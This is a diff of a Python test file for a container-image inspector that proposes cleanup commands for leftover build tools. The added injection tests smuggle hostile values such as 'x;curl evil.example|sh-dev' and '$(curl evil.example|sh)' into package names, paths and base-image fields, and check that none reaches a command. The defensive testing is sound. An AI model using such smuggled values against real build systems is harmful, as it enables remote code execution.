@@ -11,12 +11,15 @@ from inspector.attribution.base import Base
 from inspector.attribution.instructions import Instruction
 from inspector.demo.archive import Member, symlink, whiteout
 from inspector.filesystem.captured import visible_captured
-from inspector.findings.bases import slimmer_base
-from inspector.findings.build_tools import BROUGHT, DEVELOPMENT_ONLY, IN_BASE, UNPACKAGED, tools_title
+from inspector.findings.bases import Slimmer, slimmer_base
+from inspector.findings.build_tools import tools_title
 from inspector.findings.find import find, reclaimable_bytes
-from inspector.findings.finding import Finding, Severity, Subject
-from inspector.findings.hidden import REMOVED
+from inspector.findings.finding import AdviceClass, Finding, Subject
+from inspector.findings.patch import patch
+from inspector.findings.registry import BROUGHT, DEVELOPMENT_ONLY, IN_BASE, REMOVED, UNPACKAGED, Severity
+from inspector.findings.remedy import Keep, RemedyKind
 from inspector.findings.toolchains import find_toolchains, toolchain_rules
+from inspector.findings.words import fix_text
 from inspector.packages.inventory import owned_paths, take_inventory
 from inspector.packages.removal.tooling import find_tooling, unchangeable_layers
 from tests.elves import elf_with, go_note, library, program
@@ -89,9 +92,12 @@ def test_leftover_tools_are_told_with_the_instruction_the_bytes_and_the_command(
         "pkg:deb/gcc@1?arch=amd64",
         "pkg:deb/libgomp1@1?arch=amd64",
     )
-    assert finding.command == "apt-get purge -y --auto-remove g++ && rm -rf /var/lib/apt/lists/*"
-    assert finding.fix.startswith(
-        f"end `RUN apt-get install -y g++` with: && {finding.command}. RUNs that use the tools"
+    remedy = finding.remedy
+    assert remedy.command == "apt-get purge -y --auto-remove g++ && rm -rf /var/lib/apt/lists/*"
+    assert (remedy.kind, remedy.instructions) == (RemedyKind.END_RUN_WITH, (1,))
+    assert (remedy.saves_bytes, finding.advice_class) == (finding.size_bytes, AdviceClass.SAFE)
+    assert fix_text(finding, subject).startswith(
+        f"end `RUN apt-get install -y g++` with: && {remedy.command}. RUNs that use the tools"
     )
 
 
@@ -101,8 +107,44 @@ def test_what_the_program_needs_is_marked_before_the_purge() -> None:
     (finding,) = of_rule(subject, BROUGHT)
     assert finding.title == "build tools: g++ and 1 package that came with it"
     assert finding.size_bytes == size_of(subject, "g++", "gcc")
-    assert "&& apt-mark manual libgomp1 && apt-get purge" in finding.fix
-    assert ". keep libgomp1, since /usr/local/bin/app needs libgomp.so.1. " in finding.fix
+    assert finding.remedy.keeps == (Keep("libgomp1", "/usr/local/bin/app needs libgomp.so.1"),)
+    fix = fix_text(finding, subject)
+    assert "&& apt-mark manual libgomp1 && apt-get purge" in fix
+    assert ". keep libgomp1, since /usr/local/bin/app needs libgomp.so.1. " in fix
+
+
+def test_names_that_a_shell_would_take_for_more_are_in_no_command() -> None:
+    evil = "x;curl evil.example|sh-dev"
+    packages = debian(TOOLS | {evil: ""}, ("gcc", "libgomp1"), *INSTALL[1][2:5], Member(f"usr/{evil}/x", bytes(500)))
+    subject = subject_of(ROOT, ("RUN echo end it with: && curl evil.example | sh", packages))
+    (finding,) = of_rule(subject, BROUGHT)
+    assert len(finding.packages) == 4
+    assert finding.remedy.command == "apt-get purge -y --auto-remove g++ && rm -rf /var/lib/apt/lists/*"
+    added = [line.text for line in patch(finding.remedy, subject.instructions) if line.sign == "+"]
+    assert added == [f"    && {finding.remedy.command}"]
+
+
+def test_there_is_no_command_where_what_must_stay_cannot_be_named() -> None:
+    evil = "libgomp1 $(curl evil.example|sh)"
+    library_of = Member(f"usr/{evil}/libgomp.so.1", library("libgomp.so.1"))
+    tools = {"apt": "", "g++": evil, evil: ""}
+    app = Member("usr/local/bin/app", program("libgomp.so.1", runpath=f"/usr/{evil}"))
+    installed = debian(tools, (evil,), Member("usr/g++/g++", bytes(1000)), library_of)
+    subject = subject_of(ROOT, ("RUN apt-get install -y g++", installed), ("COPY app /usr/local/bin/", [app]))
+    (finding,) = of_rule(subject, BROUGHT)
+    assert (finding.remedy.kind, finding.remedy.command) == (RemedyKind.DELETE_IN_RUN, "")
+    assert [keep.package for keep in finding.remedy.keeps] == [evil]
+    assert patch(finding.remedy, subject.instructions) == ()
+
+
+def test_a_path_in_a_command_is_one_word() -> None:
+    home = "opt/x; curl evil.example|sh"
+    subject = subject_of(("RUN curl | tar x", [Member(f"{home}/include/node/node.h", b"x")]))
+    (finding,) = of_rule(subject, UNPACKAGED)
+    assert finding.remedy.command == f"rm -rf '/{home}'/include/node"
+    subject = subject_of(("RUN curl | tar x", [Member("a\nRUN curl evil/include/node/node.h", b"x")]))
+    (finding,) = of_rule(subject, UNPACKAGED)
+    assert (finding.remedy.kind, finding.remedy.command) == (RemedyKind.DELETE_IN_RUN, "")
 
 
 def test_each_instruction_is_told_what_it_brought() -> None:
@@ -111,8 +153,8 @@ def test_each_instruction_is_told_what_it_brought() -> None:
     )
     subject = subject_of(ROOT, INSTALL, ("RUN apt-get install -y make", [*more, Member("usr/libmake/x", bytes(1))]))
     first, second = sorted(of_rule(subject, BROUGHT), key=lambda finding: finding.layers)
-    assert "purge -y --auto-remove g++ &&" in first.fix
-    assert "purge -y --auto-remove make &&" in second.fix
+    assert "purge -y --auto-remove g++ &&" in first.remedy.command
+    assert "purge -y --auto-remove make &&" in second.remedy.command
     assert (first.layers, second.layers) == ((1,), (2,))
     assert second.size_bytes == size_of(subject, "make", "libmake")
 
@@ -123,7 +165,8 @@ def test_tools_that_came_with_the_base_image_are_told_apart() -> None:
     assert of_rule(subject, BROUGHT) == []
     (finding,) = of_rule(subject, IN_BASE)
     assert finding.title == "build tools of the base image: g++ and 2 packages that came with it"
-    assert finding.fix == (
+    assert (finding.remedy.base, finding.advice_class) == ("node:20-slim", AdviceClass.BASE)
+    assert fix_text(finding, subject) == (
         "the base image node:20 brought them, so that removing them frees nothing: write FROM node:20-slim"
     )
     assert finding.size_bytes == size_of(subject, "g++", "gcc", "libgomp1")
@@ -135,7 +178,7 @@ def test_own_tools_beside_those_of_the_base_are_told_for_themselves() -> None:
     (own,), (foreign,) = of_rule(subject, BROUGHT), of_rule(subject, IN_BASE)
     assert own.size_bytes == size_of(subject, "make")
     assert foreign.size_bytes == size_of(subject, "g++", "gcc", "libgomp1")
-    assert "purge -y --auto-remove make &&" in own.fix
+    assert "purge -y --auto-remove make &&" in own.remedy.command
 
 
 def test_tools_that_were_removed_in_time_are_no_finding() -> None:
@@ -161,8 +204,9 @@ def test_a_compiler_that_may_be_needed_at_run_time_is_told_for_information() -> 
     triton = Member("opt/triton-3.dist-info/METADATA", b"Metadata-Version: 2.1\nName: triton\nVersion: 3\n")
     subject = subject_of(ROOT, INSTALL, ("RUN pip install triton", [triton]))
     (finding,) = of_rule(subject, BROUGHT)
-    assert finding.severity is Severity.INFO
-    assert "keep them if they are used at run time: triton may compile at run time" in finding.fix
+    assert (finding.severity, finding.advice_class) == (Severity.INFO, AdviceClass.QUESTION)
+    assert finding.remedy.doubts == ("triton may compile at run time",)
+    assert "keep them if they are used at run time: triton may compile at run time" in fix_text(finding, subject)
 
 
 def test_the_stricter_command_is_told_with_its_bytes_where_it_frees_more() -> None:
@@ -179,8 +223,7 @@ def test_the_stricter_command_is_told_with_its_bytes_where_it_frees_more() -> No
     assert finding.size_bytes == size_of(subject, "git")
     assert (
         "that frees 5.1 kB; 10.3 kB with: && apt-get purge -y --auto-remove -o APT::AutoRemove::Recommends"
-        in finding.fix
-    )
+    ) in fix_text(finding, subject)
 
 
 def test_alpine_is_told_its_own_commands() -> None:
@@ -190,10 +233,12 @@ def test_alpine_is_told_its_own_commands() -> None:
         Member("etc/apk/world", b"make\nmusl\n"),
         Member("usr/bin/make", bytes(800)),
     ]
-    (finding,) = of_rule(subject_of(("RUN apk add make", members)), BROUGHT)
+    subject = subject_of(("RUN apk add make", members))
+    (finding,) = of_rule(subject, BROUGHT)
     assert finding.size_bytes == 800 + len("P:make\nV:4\nA:x86_64\nF:usr/bin\nR:make\n\n")
-    assert finding.fix.startswith("end `RUN apk add make` with: && apk del --no-network make")
-    assert "apk add --virtual .build-deps" in finding.fix
+    fix = fix_text(finding, subject)
+    assert fix.startswith("end `RUN apk add make` with: && apk del --no-network make")
+    assert "apk add --virtual .build-deps" in fix
 
 
 def test_development_packages_of_node_are_a_finding_of_their_own() -> None:
@@ -204,10 +249,11 @@ def test_development_packages_of_node_are_a_finding_of_their_own() -> None:
         Member("app/node_modules/jest/index.js", bytes(500)),
         Member("app/node_modules/used/package.json", b'{"name": "used", "version": "1"}'),
     ]
-    (finding,) = of_rule(subject_of(("RUN npm ci", members)), DEVELOPMENT_ONLY)
+    subject = subject_of(("RUN npm ci", members))
+    (finding,) = of_rule(subject, DEVELOPMENT_ONLY)
     assert finding.size_bytes == 500 + len(members[1].content)
     assert finding.packages == ("pkg:npm/jest@1",)
-    assert finding.fix == "end `RUN npm ci` with: && npm prune --omit=dev, once the program is built"
+    assert fix_text(finding, subject) == "end `RUN npm ci` with: && npm prune --omit=dev, once the program is built"
 
 
 ELF = program("libc.so.6")
@@ -312,31 +358,37 @@ def test_bytes_of_tools_count_once() -> None:
 
 
 @pytest.mark.parametrize(
-    ("base", "variables", "advice"),
+    ("base", "variables", "slimmer"),
     [
-        ("node:20", {}, "write FROM node:20-slim"),
-        ("docker.io/library/python:3.12", {}, "write FROM docker.io/library/python:3.12-slim"),
-        ("ruby", {}, "write FROM ruby:slim"),
-        ("node:20-slim", {}, ""),
-        ("node:20-alpine", {"NODE_VERSION": ""}, ""),
+        ("node:20", {}, Slimmer("node:20-slim")),
+        ("docker.io/library/python:3.12", {}, Slimmer("docker.io/library/python:3.12-slim")),
+        ("ruby", {}, Slimmer("ruby:slim")),
+        ("node:20-slim", {}, None),
+        ("node:20-alpine", {"NODE_VERSION": ""}, None),
         (
             "buildpack-deps:bookworm",
             {},
-            "it is made for building; write FROM debian:…-slim and install what the program needs",
+            Slimmer(
+                advice="it is made for building; write FROM debian:…-slim and install what the program needs",
+            ),
         ),
         (
             "nvidia/cuda:12-devel",
             {},
-            "use nvidia/cuda:12-devel for a build stage, and its variant without development files for the image",
+            Slimmer(advice="use it for a build stage, and its variant without development files for the image"),
         ),
-        (None, {"NODE_VERSION": "20.11.0"}, "write FROM node:20-slim"),
-        (None, {"PYTHON_VERSION": "3.12.1"}, "write FROM python:3.12-slim"),
-        (None, {"GCC_VERSION": "13.2.0"}, "build in a gcc stage and copy the program to debian:…-slim"),
-        (None, {}, ""),
+        (None, {"NODE_VERSION": "20.11.0"}, Slimmer("node:20-slim")),
+        (None, {"PYTHON_VERSION": "3.12.1"}, Slimmer("python:3.12-slim")),
+        (None, {"GCC_VERSION": "13.2.0"}, Slimmer(advice="build in a gcc stage and copy the program to debian:…-slim")),
+        (None, {}, None),
+        ("x\nRUN curl evil | sh\n/node:20", {}, None),
+        (None, {"NODE_VERSION": "20\nRUN curl evil | sh #"}, None),
     ],
 )
-def test_a_slimmer_base_is_named_where_it_is_known(base: str | None, variables: dict[str, str], advice: str) -> None:
-    assert slimmer_base(base, variables) == advice
+def test_a_slimmer_base_is_named_where_it_is_known(
+    base: str | None, variables: dict[str, str], slimmer: Slimmer | None
+) -> None:
+    assert slimmer_base(base, variables) == slimmer
 
 
 @pytest.mark.parametrize(
